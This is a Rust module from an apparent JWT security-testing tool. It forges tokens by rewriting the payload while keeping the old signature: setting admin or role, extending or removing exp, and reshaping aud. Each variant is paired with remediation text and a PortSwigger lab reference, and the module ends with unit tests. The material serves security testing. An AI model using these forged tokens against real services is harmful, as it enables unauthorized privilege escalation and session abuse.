//! Claim tampering with the old signature kept: the header and signature segments stay
//! byte for byte, only the payload segment is rebuilt (member order and number spelling
//! kept, whitespace removed).

use super::{AttackError, Draft, Group, Original, json_str};
use crate::core::claims::{NumericDate, time_claim};
use crate::core::{b64, json};
use serde_json::Value;

const YEAR: i64 = 365 * 24 * 60 * 60;

const MUST: &str = "Reject it: the signature covers the payload bytes, so any change to the claims must fail verification; the server must verify before it reads a single claim.";
const REFERENCE: &str = "PortSwigger Web Security Academy lab \"JWT authentication bypass via unverified signature\", https://portswigger.net/web-security/jwt/lab-jwt-authentication-bypass-via-unverified-signature";

/// The top-level members of a minified JSON object, as (decoded name, member text).
fn members(minified: &str) -> Vec<(String, &str)> {
    let bytes = minified.as_bytes();
    let mut out = Vec::new();
    let mut i = 1; // past '{'
    while bytes.get(i) == Some(&b'"') {
        let start = i;
        let key_end = json::string_end(bytes, i);
        let name: String = minified
            .get(start..key_end)
            .and_then(|k| serde_json::from_str(k).ok())
            .unwrap_or_default();
        i = key_end + 1; // past ':'
        let mut depth = 0usize;
        while let Some(&b) = bytes.get(i) {
            match b {
                b'"' => {
                    i = json::string_end(bytes, i);
                    continue;
                }
                b'{' | b'[' => depth += 1,
                b'}' | b']' if depth == 0 => break,
                b'}' | b']' => depth -= 1,
                b',' if depth == 0 => break,
                _ => {}
            }
            i += 1;
        }
        out.push((name, minified.get(start..i).unwrap_or("")));
        if bytes.get(i) == Some(&b',') {
            i += 1;
        }
    }
    out
}

/// Removes a top-level member from a JSON object given as text; the result is minified.
pub(super) fn remove_member(text: &str, name: &str) -> Result<String, AttackError> {
    json::parse_object("payload", text)?;
    let minified = json::minify("payload", text)?;
    let kept: Vec<&str> = members(&minified)
        .into_iter()
        .filter(|(n, _)| n != name)
        .map(|(_, m)| m)
        .collect();
    Ok(format!("{{{}}}", kept.join(",")))
}

/// The payload with `admin` set to true (or flipped when it is already a boolean).
pub(super) fn admin_payload(orig: &Original) -> Result<Option<(String, String)>, AttackError> {
    let Some((text, claims)) = &orig.claims else {
        return Ok(None);
    };
    let (value, what) = match claims.get("admin") {
        Some(Value::Bool(b)) => ((!b).to_string(), format!("admin flipped to {}", !b)),
        _ => ("true".to_string(), "admin set to true".to_string()),
    };
    let payload = json::set_members("payload", text, &[("admin", value)])?;
    Ok(Some((payload, what)))
}

/// The original header and signature segments around a new payload.
fn with_old_signature(orig: &Original, payload: &str) -> String {
    super::dotted(&[
        &orig.header_segment,
        &b64::encode(payload.as_bytes()),
        &orig.signature_segment,
    ])
}

fn draft(orig: &Original, id: &str, name: String, payload: &str, explanation: &str) -> Draft {
    Draft::new(
        id,
        Group::ClaimTampering,
        name,
        with_old_signature(orig, payload),
    )
    .text(
        format!("{explanation} The header and the old signature are kept byte for byte, so only a server that decodes without verifying (or verifies something else than these bytes) accepts it."),
        MUST,
        REFERENCE,
    )
}

/// admin, role, exp extended, exp removed, aud as string versus array.
pub(super) fn variants(
    orig: &Original,
    now: NumericDate,
    notes: &mut Vec<String>,
    out: &mut dyn FnMut(Draft),
) -> Result<(), AttackError> {
    let Some((text, claims)) = &orig.claims else {
        notes.push(
            "claim tampering skipped: the payload is not a JSON object of claims".to_string(),
        );
        return Ok(());
    };
    if let Some((payload, what)) = admin_payload(orig)? {
        let explanation = format!("The payload has {what}: a privilege escalation.");
        out(draft(orig, "claims-admin", what, &payload, &explanation));
    }
    let role = match claims.get("role") {
        Some(Value::String(r)) if r == "admin" => "user",
        _ => "admin",
    };
    {
        let payload = json::set_members("payload", text, &[("role", json_str(role))])?;
        let name = format!("role set to \"{role}\"");
        let explanation = format!("The payload has {name}: a change of role.");
        out(draft(orig, "claims-role", name, &payload, &explanation));
    }
    match time_claim(claims, "exp") {
        Ok(exp) => {
            let (value, name) = match exp {
                Some(e) => (e.saturating_add(YEAR), "exp extended by a year"),
                None => (now.saturating_add(YEAR), "exp added, a year from now"),
            };
            let payload = json::set_members("payload", text, &[("exp", value.to_string())])?;
            let explanation =
                format!("The payload has {name}: a token that lives longer than issued.");
            out(draft(
                orig,
                "claims-exp-extended",
                name.to_string(),
                &payload,
                &explanation,
            ));
        }
        Err(e) => notes.push(format!("exp extension skipped: {e}")),
    }
    if claims.contains_key("exp") {
        let payload = remove_member(text, "exp")?;
        out(draft(
            orig,
            "claims-exp-removed",
            "exp removed".to_string(),
            &payload,
            "The payload has no exp any more: a token that never expires.",
        ));
    } else {
        notes.push("exp removal skipped: the token has no exp".to_string());
    }
    let aud = match claims.get("aud") {
        Some(Value::String(s)) => Some((
            Value::Array(vec![Value::String(s.clone())]).to_string(),
            "aud turned from a string into an array",
        )),
        Some(Value::Array(items)) => match items.first() {
            Some(Value::String(s)) => Some((json_str(s), "aud turned from an array into a string")),
            _ => None,
        },
        None => Some((
            json_str("attacker.example"),
            "aud added (\"attacker.example\")",
        )),
        Some(_) => None,
    };
    match aud {
        Some((value, name)) => {
            let payload = json::set_members("payload", text, &[("aud", value)])?;
            let explanation = format!(
                "The payload has {name}: audience checks that handle only one shape let it through, and a changed shape must still break the signature."
            );
            out(draft(
                orig,
                "claims-aud-shape",
                name.to_string(),
                &payload,
                &explanation,
            ));
        }
        None => notes.push(
            "aud shape change skipped: aud is neither a string nor an array starting with a string"
                .to_string(),
        ),
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn removes_members_at_any_position_keeping_the_rest_byte_for_byte() {
        let text =
            "{ \"a\": [1, {\"exp\": 2}], \"exp\": 12345678901234567890123, \"s\": \"x,}\\\"\" }";
        assert_eq!(
            remove_member(text, "exp").unwrap(),
            r#"{"a":[1,{"exp":2}],"s":"x,}\""}"#
        );
        assert_eq!(remove_member(r#"{"exp":1}"#, "exp").unwrap(), "{}");
        assert_eq!(
            remove_member(r#"{"exp":1,"b":2}"#, "exp").unwrap(),
            r#"{"b":2}"#
        );
        assert_eq!(
            remove_member(r#"{"\u0065xp":1,"b":{}}"#, "exp").unwrap(),
            r#"{"b":{}}"#
        );
        assert!(remove_member("[1]", "exp").is_err());
    }
}
